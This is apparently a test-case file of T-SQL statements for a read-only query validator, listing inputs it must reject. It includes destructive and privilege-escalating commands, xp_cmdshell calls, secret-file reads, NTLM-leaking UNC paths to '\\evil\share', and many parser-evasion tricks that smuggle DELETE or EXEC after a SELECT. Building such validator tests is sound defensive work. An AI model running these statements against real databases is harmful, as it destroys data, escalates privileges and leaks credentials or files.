INSERT INTO dbo.people (name) VALUES ('x')
-- ~~~
UPDATE dbo.people SET name = 'x'
-- ~~~
DELETE FROM dbo.people
-- ~~~
DELETE dbo.people
-- ~~~
MERGE dbo.people AS t USING (SELECT 1 AS id) AS s ON t.id = s.id WHEN MATCHED THEN DELETE;
-- ~~~
TRUNCATE TABLE dbo.people
-- ~~~
DROP TABLE dbo.people
-- ~~~
DROP DATABASE IF EXISTS shop
-- ~~~
CREATE TABLE dbo.t (a int)
-- ~~~
CREATE OR ALTER PROCEDURE dbo.p AS DELETE dbo.people
-- ~~~
ALTER TABLE dbo.people ADD b int
-- ~~~
ALTER SERVER ROLE sysadmin ADD MEMBER me
-- ~~~
GRANT CONTROL TO public
-- ~~~
REVOKE SELECT ON dbo.people FROM public
-- ~~~
DENY SELECT ON dbo.people TO public
-- ~~~
EXEC sp_who
-- ~~~
EXECUTE ('DELETE dbo.people')
-- ~~~
EXEC sp_executesql N'DELETE dbo.people'
-- ~~~
sp_who
-- ~~~
sp_configure 'show advanced options', 1
-- ~~~
xp_cmdshell 'dir'
-- ~~~
[sp_who]
-- ~~~
"sp_who"
-- ~~~
master..xp_cmdshell 'dir'
-- ~~~
[master].[dbo].[xp_cmdshell] 'dir'
-- ~~~
dbo.delete_everything
-- ~~~
EXEC master..xp_cmdshell 'whoami'
-- ~~~
EXEC xp_dirtree '\\evil\share'
-- ~~~
DECLARE @x int = 1; SELECT @x
-- ~~~
DECLARE @s nvarchar(100) = N'DELETE dbo.people' EXEC (@s)
-- ~~~
SET NOCOUNT ON; SELECT 1
-- ~~~
SET IDENTITY_INSERT dbo.people ON
-- ~~~
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE SELECT 1
-- ~~~
BEGIN TRANSACTION DELETE dbo.people COMMIT
-- ~~~
BEGIN DELETE dbo.people END
-- ~~~
COMMIT
-- ~~~
COMMIT TRANSACTION
-- ~~~
ROLLBACK
-- ~~~
SAVE TRANSACTION x
-- ~~~
IF 1 = 1 DELETE dbo.people
-- ~~~
IF EXISTS (SELECT 1) SELECT 2
-- ~~~
WHILE 1 = 1 SELECT 1
-- ~~~
WAITFOR DELAY '00:10:00'
-- ~~~
PRINT 'x'
-- ~~~
RAISERROR ('x', 16, 1)
-- ~~~
THROW 50000, 'x', 1
-- ~~~
GOTO done
-- ~~~
done: SELECT 1
-- ~~~
RETURN
-- ~~~
USE master
-- ~~~
USE master SELECT 1
-- ~~~
DBCC FREEPROCCACHE
-- ~~~
DBCC CHECKDB
-- ~~~
KILL 53
-- ~~~
SHUTDOWN
-- ~~~
SHUTDOWN WITH NOWAIT
-- ~~~
RECONFIGURE
-- ~~~
CHECKPOINT
-- ~~~
BACKUP DATABASE shop TO DISK = 'x.bak'
-- ~~~
RESTORE DATABASE shop FROM DISK = 'x.bak'
-- ~~~
BULK INSERT dbo.people FROM 'x.csv'
-- ~~~
REVERT
-- ~~~
EXECUTE AS USER = 'dbo'
-- ~~~
SETUSER 'dbo'
-- ~~~
OPEN c
-- ~~~
FETCH NEXT FROM c
-- ~~~
CLOSE c
-- ~~~
DEALLOCATE c
-- ~~~
DECLARE c CURSOR FOR SELECT 1
-- ~~~
READTEXT dbo.t.c 0x00 1 25
-- ~~~
WRITETEXT dbo.t.c 0x00 'x'
-- ~~~
UPDATETEXT dbo.t.c 0x00 0 NULL 'x'
-- ~~~
ENABLE TRIGGER tr ON dbo.people
-- ~~~
DISABLE TRIGGER ALL ON DATABASE
-- ~~~
SEND ON CONVERSATION '00000000-0000-0000-0000-000000000000' ('x')
-- ~~~
RECEIVE * FROM dbo.q
-- ~~~
RECEIVE TOP (1) * FROM dbo.q
-- ~~~
GET CONVERSATION GROUP @g FROM dbo.q
-- ~~~
MOVE CONVERSATION x TO y
-- ~~~
ADD SIGNATURE TO dbo.p BY CERTIFICATE c
-- ~~~
UPDATE STATISTICS dbo.people
-- ~~~
CREATE STATISTICS s ON dbo.people (name)
-- ~~~
RENAME OBJECT dbo.people TO folk
-- ~~~
COPY INTO dbo.people FROM 'https://example.com/x.csv'
-- ~~~
VALUES (1)
-- ~~~
TABLE dbo.people
-- ~~~
EXPLAIN SELECT 1
-- ~~~

-- ~~~
;
-- ~~~
-- only a comment
-- ~~~
/* only a comment */
-- ~~~
(
-- ~~~
()
-- ~~~
SELECT
-- ~~~
SELECT 1; SELECT 2
-- ~~~
SELECT 1; DELETE dbo.people
-- ~~~
SELECT 1;; DELETE dbo.people
-- ~~~
SELECT 1 DELETE dbo.people
-- ~~~
SELECT 1 DELETE FROM dbo.people
-- ~~~
SELECT 1 SELECT 2
-- ~~~
SELECT 1 (SELECT 2)
-- ~~~
(SELECT 1) (SELECT 2)
-- ~~~
(SELECT 1) SELECT 2
-- ~~~
(SELECT 1) DELETE dbo.people
-- ~~~
SELECT 1
DELETE dbo.people
-- ~~~
SELECT 1
GO
DELETE dbo.people
-- ~~~
SELECT 1
GO
-- ~~~
SELECT 1
GO 5
-- ~~~
SELECT 1/**/DELETE/**/dbo.people
-- ~~~
SELECT 1--
DELETE dbo.people
-- ~~~
SELECT 1 -- ' a quote in a comment
DELETE dbo.people -- '
-- ~~~
SELECT '/*' DELETE dbo.people --*/'
-- ~~~
SELECT '--' DELETE dbo.people
-- ~~~
SELECT /* /* */ 1 */ 1 DELETE dbo.people
-- ~~~
SELECT /* nested /* deep */ still */ 1 INSERT dbo.people VALUES (1)
-- ~~~
SELECT 'it''s' UPDATE dbo.people SET a = 1
-- ~~~
SELECT N'it''s' UPDATE dbo.people SET a = 1
-- ~~~
SELECT "a""b" UPDATE dbo.people SET a = 1
-- ~~~
SELECT [a]]b] UPDATE dbo.people SET a = 1
-- ~~~
SELECT [']DELETE dbo.people --'
-- ~~~
SELECT "'" DELETE dbo.people --'
-- ~~~
SELECT 1.DELETE dbo.people
-- ~~~
SELECT 1.5DELETE dbo.people
-- ~~~
SELECT .5DELETE dbo.people
-- ~~~
SELECT 1e5DELETE dbo.people
-- ~~~
SELECT 1.eDELETE dbo.people
-- ~~~
SELECT 1eDELETE dbo.people
-- ~~~
SELECT 1e+DELETE dbo.people
-- ~~~
SELECT 0xINSERT dbo.people VALUES (1)
-- ~~~
SELECT 0xFFUPDATE dbo.people SET a = 1
-- ~~~
SELECT $DELETE dbo.people
-- ~~~
SELECT $.DELETE dbo.people
-- ~~~
SELECT $1.DELETE dbo.people
-- ~~~
SELECT €DELETE dbo.people
-- ~~~
SELECT £1DELETE dbo.people
-- ~~~
SELECT 'a'DELETE dbo.people
-- ~~~
SELECT[a]DELETE dbo.people
-- ~~~
SELECT @@versionDELETE dbo.people
-- ~~~
SELECT @@version DELETE dbo.people
-- ~~~
SELECT 1 AS a DELETE dbo.people
-- ~~~
SELECT a FROM dbo.people DELETE dbo.people
-- ~~~
SELECT a FROM dbo.people AS p DELETE dbo.people
-- ~~~
SELECT a FROM dbo.people WHERE a IN (1, 2) DELETE dbo.people
-- ~~~
SELECT a FROM dbo.people WHERE a IN (1, 2) EXEC sp_who
-- ~~~
SELECT a FROM dbo.people WHERE a IN (1, 2) SELECT 2
-- ~~~
SELECT a FROM dbo.people ORDER BY a EXEC sp_who
-- ~~~
SELECT a FROM dbo.people ORDER BY a DESC COMMIT
-- ~~~
SELECT a FROM dbo.people OPTION (RECOMPILE) DROP TABLE dbo.people
-- ~~~
SELECT a FROM dbo.people OPTION (RECOMPILE) USE master
-- ~~~
SELECT 1 USE HINT
-- ~~~
SELECT 1 ROWS FETCH NEXT FROM c
-- ~~~
SELECT a FROM dbo.people ORDER BY a OFFSET 1 ROWS FETCH NEXT FROM c
-- ~~~
SELECT CASE WHEN 1 = 1 THEN 1 END END CONVERSATION '00000000-0000-0000-0000-000000000000'
-- ~~~
SELECT 1 END CONVERSATION 'x'
-- ~~~
SELECT 1 BEGIN DELETE dbo.people END
-- ~~~
SELECT 1 IF 1 = 1 DELETE dbo.people
-- ~~~
SELECT 1 WAITFOR DELAY '01:00:00'
-- ~~~
SELECT 1 COMMIT TRANSACTION DELETE dbo.people
-- ~~~
SELECT 1 ROLLBACK DELETE dbo.people
-- ~~~
SELECT 1 SET NOCOUNT ON
-- ~~~
SELECT 1 DECLARE @x int
-- ~~~
SELECT 1 PRINT 'x'
-- ~~~
SELECT 1 GRANT CONTROL TO public
-- ~~~
SELECT 1 ENABLE TRIGGER tr ON dbo.people
-- ~~~
SELECT 1 WHERE 1 = 1 RECEIVE * FROM dbo.q
-- ~~~
SELECT 1 WHERE 1 = 1 RECEIVE message_body FROM dbo.q
-- ~~~
SELECT 1 WHERE 1 = 1 RECEIVE [message_body] FROM dbo.q
-- ~~~
SELECT 1 WHERE 1 = 1 SEND ON CONVERSATION 'x' ('y')
-- ~~~
SELECT 1 WHERE 1 = 1 THROW 50000, 'x', 1
-- ~~~
SELECT 1 done: DELETE dbo.people
-- ~~~
SELECT * INTO dbo.copy FROM dbo.people
-- ~~~
SELECT * INTO #copy FROM dbo.people
-- ~~~
SELECT a, b INTO [dbo].[copy] FROM dbo.people WHERE 1 = 0
-- ~~~
(SELECT 1 AS a INTO dbo.t)
-- ~~~
WITH c AS (SELECT 1 AS a) SELECT a INTO dbo.t FROM c
-- ~~~
WITH c AS (SELECT 1 AS a) INSERT dbo.people SELECT a FROM c
-- ~~~
WITH c AS (SELECT 1 AS a) DELETE FROM c
-- ~~~
WITH c AS (SELECT 1 AS a) UPDATE c SET a = 2
-- ~~~
WITH c AS (SELECT 1 AS a) MERGE dbo.people USING c ON 1 = 1 WHEN MATCHED THEN DELETE;
-- ~~~
WITH c AS (SELECT 1 AS a), d AS (SELECT 2 AS b) DELETE FROM d
-- ~~~
WITH c (a) AS (SELECT 1) DELETE FROM c
-- ~~~
WITH c AS (DELETE dbo.people OUTPUT deleted.*) SELECT * FROM c
-- ~~~
WITH XMLNAMESPACES ('x' AS y) DELETE FROM dbo.people
-- ~~~
WITH c AS (SELECT 1 AS a) SELECT a FROM c SELECT 2
-- ~~~
WITH c AS (SELECT 1 AS a) SELECT a FROM c WITH d AS (SELECT 1 AS b) DELETE FROM d
-- ~~~
WITH c AS (SELECT 1 AS a)
-- ~~~
WITH c
-- ~~~
WITH c AS SELECT 1
-- ~~~
WITH CHANGE_TRACKING_CONTEXT (0x01) DELETE dbo.people
-- ~~~
SELECT * FROM (DELETE dbo.people OUTPUT deleted.id) AS d
-- ~~~
SELECT * FROM (MERGE dbo.people USING dbo.b ON 1 = 1 WHEN MATCHED THEN DELETE OUTPUT $action) AS d
-- ~~~
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;Trusted_Connection=yes;', 'DELETE t') AS a
-- ~~~
SELECT * FROM OPENROWSET(BULK 'c:\secret.txt', SINGLE_CLOB) AS a
-- ~~~
SELECT * FROM OPENQUERY(srv, 'DELETE FROM t')
-- ~~~
SELECT * FROM openquery (srv, 'SELECT 1')
-- ~~~
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t
-- ~~~
SELECT * FROM srv.db.dbo.people
-- ~~~
SELECT * FROM [srv].[db].[dbo].[people]
-- ~~~
SELECT * FROM srv.db..people
-- ~~~
SELECT * FROM srv...people
-- ~~~
SELECT * FROM dbo.people AS a, srv.db.dbo.people AS b
-- ~~~
SELECT * FROM dbo.people AS a JOIN srv.db.dbo.people AS b ON a.id = b.id
-- ~~~
SELECT * FROM (srv.db.dbo.people AS a CROSS JOIN dbo.people AS b)
-- ~~~
SELECT * FROM dbo.people WHERE id IN (SELECT id FROM "srv"."db"."dbo"."people")
-- ~~~
SELECT NEXT VALUE FOR dbo.seq
-- ~~~
SELECT next /* x */ value for dbo.seq AS n
-- ~~~
SELECT 1 + (NEXT VALUE FOR dbo.seq)
-- ~~~
SELECT * FROM dbo.people WITH (TABLOCKX)
-- ~~~
SELECT * FROM dbo.people WITH (NOLOCK, XLOCK)
-- ~~~
SELECT * FROM dbo.people WITH (ROWLOCK UPDLOCK)
-- ~~~
SELECT * FROM dbo.people (UPDLOCK)
-- ~~~
SELECT * FROM dbo.people AS p (TABLOCKX, HOLDLOCK)
-- ~~~
SELECT * FROM dbo.people WITH (HOLDLOCK)
-- ~~~
SELECT * FROM dbo.people HOLDLOCK
-- ~~~
SELECT * FROM dbo.people WITH (SERIALIZABLE)
-- ~~~
SELECT * FROM dbo.people WITH (REPEATABLEREAD)
-- ~~~
SELECT * FROM dbo.people WITH (INDEX(1), TABLOCK)
-- ~~~
SELECT * FROM dbo.people AS p OPTION (TABLE HINT (p, XLOCK))
-- ~~~
SELECT * FROM dbo.people FOR UPDATE
-- ~~~
SELECT * FROM sys.fn_xe_file_target_read_file('\\evil\share\*.xel', NULL, NULL, NULL)
-- ~~~
SELECT * FROM sys.fn_get_audit_file('\\evil\share\*', NULL, NULL)
-- ~~~
SELECT * FROM fn_trace_gettable('c:\x.trc', 1)
-- ~~~
SELECT * FROM sys.[fn_trace_gettable]('c:\x.trc', 1)
-- ~~~
SELECT * FROM sys.dm_os_file_exists('c:\windows\win.ini')
-- ~~~
SELECT @x = 1
-- ~~~
SELECT @rows
-- ~~~
SELECT {call sp_who}
-- ~~~
{call sp_who}
-- ~~~
{? = call sp_who}
-- ~~~
SELECT 1 DELETE@p1
-- ~~~
SELECT 1 EXEC#p
-- ~~~
SELECT @@x
-- ~~~
SELECT `a`
-- ~~~
SELECT 1 \ DELETE dbo.people
-- ~~~
SELECT 'open
-- ~~~
SELECT "open
-- ~~~
SELECT [open
-- ~~~
SELECT 1 /* open
-- ~~~
SELECT 1 /* /* */ DELETE dbo.people
-- ~~~
SELECT (1
-- ~~~
SELECT 1)
-- ~~~
SELECT (SELECT 1 SELECT 2)
-- ~~~
SELECT ＤＥＬＥＴＥ dbo.people
-- ~~~
SELECT 1 ＤＥＬＥＴＥ dbo.people
-- ~~~
SELECT 1 ınsert dbo.people values (1)
-- ~~~
SELECT 1 İNSERT dbo.people values (1)
-- ~~~
SELECT 1 inſert dbo.people values (1)
-- ~~~
SELECT 1 Kill 53
-- ~~~
SELECT aéDELETE dbo.people
-- ~~~
SELECT a̅DELETE dbo.people
-- ~~~
sElEcT 1 dElEtE dbo.people
-- ~~~
SELECT 1 TRUNCATE TABLE dbo.people
-- ~~~
SELECT 1 EXECUTE AS LOGIN = 'sa'
-- ~~~
SELECT 1 AS DELETE FROM dbo.people
-- ~~~
SELECT 1 . DELETE
FROM dbo.people EXEC sp_who
-- ~~~
SELECT 1 WHERE 1 = 1 BACKUP DATABASE shop TO DISK = 'x'
-- ~~~
SELECT dbo.f() DBCC FREEPROCCACHE
-- ~~~
SELECT AI_GENERATE_EMBEDDINGS('x' USE MODEL m)
-- ~~~
SELECT 1...DELETE dbo.people
-- ~~~
SELECT 1 ..DELETE dbo.people
-- ~~~
SELECT $..DELETE dbo.people
-- ~~~
SELECT * FROM sys.dm_exec_describe_first_result_set(N'SELECT * FROM OPENROWSET(''x'', ''y'', ''z'')', NULL, 0)
-- ~~~
SELECT *, 1 INTO dbo.copy FROM dbo.people
-- ~~~
SELECT t.* INTO dbo.copy FROM dbo.people AS t
-- ~~~
SELECT 1 WHERE 1 = 1 done: SELECT 2
-- ~~~
SELECT 1 UNION SELECT 2 DELETE dbo.people
-- ~~~
SELECT 1 FROM dbo.a INNER JOIN dbo.b ON 1 = 1 MERGE dbo.people USING dbo.b ON 1 = 1 WHEN MATCHED THEN DELETE;
-- ~~~
SELECT 1 FROM dbo.people FOR JSON PATH UPDATE dbo.people SET a = 1
-- ~~~
SELECT 1 UNION DELETE dbo.people
-- ~~~
SELECT * FROM dbo.people (INDEX(1), XLOCK)
-- ~~~
SELECT * FROM dbo.people AS p JOIN dbo.b AS b (XLOCK, ROWLOCK) ON p.id = b.id
-- ~~~
SELECT * FROM dbo.a, srv.db.dbo.people
-- ~~~
SELECT * FROM dbo.a AS a JOIN dbo.b AS b ON a.id = b.id, srv.db.dbo.people AS c
-- ~~~
SELECT * FROM dbo.a, (srv.db.dbo.people AS b CROSS JOIN dbo.c AS c)
-- ~~~
SELECT * FROM dbo.a, (dbo.c AS c CROSS JOIN srv.db.dbo.people AS b)
-- ~~~
SELECT * FROM dbo.a CROSS JOIN ((srv.db.dbo.people AS b CROSS JOIN dbo.c AS c))
-- ~~~
SELECT * FROM dbo.person AS p, dbo.knows FOR PATH AS k, srv.db.dbo.person FOR PATH AS q WHERE MATCH(SHORTEST_PATH(p(-(k)->q)+))
-- ~~~
SELECT * FROM dbo.a FOR SYSTEM_TIME AS OF '2026-01-01', srv.db.dbo.people
-- ~~~
SELECT * FROM dbo.a WITH (NOLOCK), [srv].[db].[dbo].[people] WITH (NOLOCK)
-- ~~~
SELECT * FROM srv.db.dbo.people (NOLOCK)
-- ~~~
SELECT * FROM dbo.a, srv.db.dbo.nodes (NOLOCK) AS n
-- ~~~
SELECT * FROM dbo.f(1) AS f, srv.db.dbo.people
-- ~~~
SELECT * FROM {oj srv.db.dbo.people AS a LEFT OUTER JOIN dbo.b AS b ON a.id = b.id}
-- ~~~
SELECT * FROM CHANGETABLE(CHANGES srv.db.dbo.people, 0) AS c
-- ~~~
SELECT * FROM CONTAINSTABLE(srv.db.dbo.docs, body, 'x') AS k
-- ~~~
SELECT * FROM PREDICT(MODEL = @p1, DATA = srv.db.dbo.people AS d) WITH (score float) AS p
-- ~~~
SELECT a.id FROM dbo.a AS a WHERE EXISTS (SELECT 1 FROM dbo.b AS b, srv.db.dbo.people AS c)
-- ~~~
SELECT * FROM sys.fn_get_audit_file_v2('https://evil.example/x', NULL, NULL, NULL, NULL)
-- ~~~
SELECT * FROM dbo.a CROSS APPLY sys.fn_get_audit_file(a.path, DEFAULT, DEFAULT)
-- ~~~
SELECT * FROM ::fn_get_audit_file('\\evil\share\*', NULL, NULL)
-- ~~~
SELECT * FROM [master].[sys].[fn_xe_file_target_read_file] ('x*.xel', NULL, NULL, NULL)
-- ~~~
SELECT * FROM sys . fn_MSxe_read_event_stream ('system_health', 0)
-- ~~~
SELECT 1 WHERE 1 = 1 RECEIVE 'x' FROM dbo.q
-- ~~~
SELECT 1 WHERE 1 = 1 RECEIVE (message_body) FROM dbo.q
-- ~~~
SELECT t.* RECEIVE message_body FROM dbo.q
-- ~~~
SELECT {fn NOW()} RECEIVE message_body FROM dbo.q
-- ~~~
SELECT a FROM dbo.t AS x RECEIVE CAST(message_body AS xml) FROM dbo.q
-- ~~~
SELECT 1 AS a FROM dbo.t apply RECEIVE message_body FROM dbo.q
-- ~~~
SELECT t.from RECEIVE message_body FROM dbo.q
-- ~~~
SELECT 1 FROM dbo.q GET CONVERSATION GROUP @p1 FROM dbo.q
-- ~~~
SELECT 1 FROM dbo.q MOVE CONVERSATION 'x' TO 'y'
-- ~~~
SELECT 1 FROM dbo.q RENAME OBJECT::dbo.people TO folk
-- ~~~
SELECT 1 FROM dbo.q RENAME OBJECT dbo.people TO folk
-- ~~~
SELECT 1 FROM dbo.q SEND ON CONVERSATION @p1 ('y')
-- ~~~
SELECT 1 FROM dbo.q SEND ON CONVERSATION (@p1, @p2) ('y')
-- ~~~
SELECT 1 FROM dbo.q ENABLE TRIGGER tr ON dbo.people
-- ~~~
SELECT 1 COPY INTO dbo.people FROM 'https://example.com/x.csv'
-- ~~~
SELECT 1 . RECEIVE * FROM dbo.q
-- ~~~
SELECT * FROM dbo.a, dbo.people (XLOCK)
-- ~~~
SELECT * FROM (dbo.people (UPDLOCK) CROSS JOIN dbo.b)
-- ~~~
SELECT * FROM dbo.a JOIN [dbo].[people] (TABLOCKX) ON 1 = 1
-- ~~~
SELECT * FROM {oj dbo.people (XLOCK) LEFT OUTER JOIN dbo.b ON 1 = 1}
-- ~~~
SELECT * FROM dbo.a FOR SYSTEM_TIME FROM '2025-01-01' TO '2026-01-01', dbo.people (XLOCK)
